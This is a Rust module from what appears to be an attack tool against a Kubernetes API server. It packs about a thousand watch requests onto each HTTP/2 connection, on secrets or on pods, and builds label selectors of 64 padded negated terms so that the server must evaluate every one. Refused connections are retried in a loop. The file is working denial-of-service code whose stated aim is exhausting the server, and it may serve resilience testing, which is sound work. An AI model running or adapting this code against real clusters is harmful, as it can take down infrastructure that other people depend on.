//! Many watches on few HTTP/2 connections.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use anyhow::{Result, ensure};
use http_body_util::{BodyExt, Full};
use hyper::Method;
use hyper::client::conn::http2::Builder;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::task::JoinSet;

use super::{Attack, AttackClient, AttackState, BACK_AFTER, OpenConnection, count};
use crate::http2::Sender;

const STREAMS: usize = 1_000;
/// As many terms as memory evaluates, so long that they just fit in 16 KiB: longer selectors are the API server's work.
const TERMS: usize = 64;
const KEY_LEN: usize = 250;
/// A receive window for all streams of a connection.
const WINDOW_LEN: u32 = 1 << 30;

pub(super) fn begin(state: &Arc<AttackState>, clients: &mut JoinSet<()>) {
    let all = state.flags.clients;
    for first in (0..all).step_by(STREAMS) {
        let state = state.clone();
        clients.spawn(async move {
            let numbers = first..(first + STREAMS).min(all);
            let watches: Vec<_> = numbers
                .map(|number| AttackClient::new(&state, number))
                .collect();
            loop {
                if connection(&state, &watches).await.is_err() {
                    let refused = &state.counts.refused;
                    refused.fetch_add(watches.len() as u64, Ordering::Relaxed);
                    watches.iter().for_each(|watch| watch.start());
                }
                tokio::time::sleep(BACK_AFTER).await;
            }
        });
    }
}

/// One connection, until the server ends it; an error if it could not be made.
async fn connection(state: &Arc<AttackState>, watches: &[Arc<AttackClient>]) -> Result<()> {
    let mut streams = JoinSet::new();
    let sender = connect(state, &mut streams).await?;
    let _open = OpenConnection::of(state);
    for watch in watches {
        let (state, sender, watch) = (state.clone(), sender.clone(), watch.clone());
        streams.spawn(async move {
            while !sender.is_closed() {
                state.pace.turn().await;
                if watch_once(&state, sender.clone(), &watch).await.is_err() {
                    count(&state.counts.refused);
                }
                watch.start();
                tokio::time::sleep(BACK_AFTER).await;
            }
        });
    }
    drop(sender);
    while streams.join_next().await.is_some() {}
    count(&state.counts.closed);
    Ok(())
}

async fn connect(state: &AttackState, streams: &mut JoinSet<()>) -> Result<Sender> {
    let stream = state
        .flags
        .target
        .connect_from(state.flags.source, "h2")
        .await?;
    let (sender, connection) = Builder::new(TokioExecutor::new())
        .initial_connection_window_size(WINDOW_LEN)
        .handshake(TokioIo::new(stream))
        .await?;
    streams.spawn(async move { drop(connection.await) });
    Ok(sender)
}

/// One watch, whose events are dropped; an error if it was refused.
async fn watch_once(state: &AttackState, mut sender: Sender, watch: &AttackClient) -> Result<()> {
    let path = match state.flags.attack {
        Attack::Forwarded => "/api/v1/secrets?watch=1".to_owned(),
        _ => format!(
            "/api/v1/pods?watch=1&labelSelector={}",
            selector(watch.number)
        ),
    };
    let request = state
        .flags
        .target
        .request(Method::GET, &state.flags.target.url(&path));
    let request = request.body(Full::default())?;
    let response = sender.send_request(request).await?;
    ensure!(response.status() == 200, "turned away");
    count(&state.counts.done);
    watch.start();
    let mut body = response.into_body();
    while let Some(Ok(_)) = body.frame().await {}
    Ok(())
}

/// Terms that no pod contradicts, so that the server evaluates all of them; different for each watch.
fn selector(number: usize) -> String {
    let term = |at| {
        let name = format!("w{number}-t{at}");
        // A prefix is a DNS subdomain.
        let prefix = "a.".repeat((KEY_LEN - name.len()) / 2);
        format!("!{prefix}a/{name}")
    };
    (0..TERMS).map(term).collect::<Vec<_>>().join(",")
}
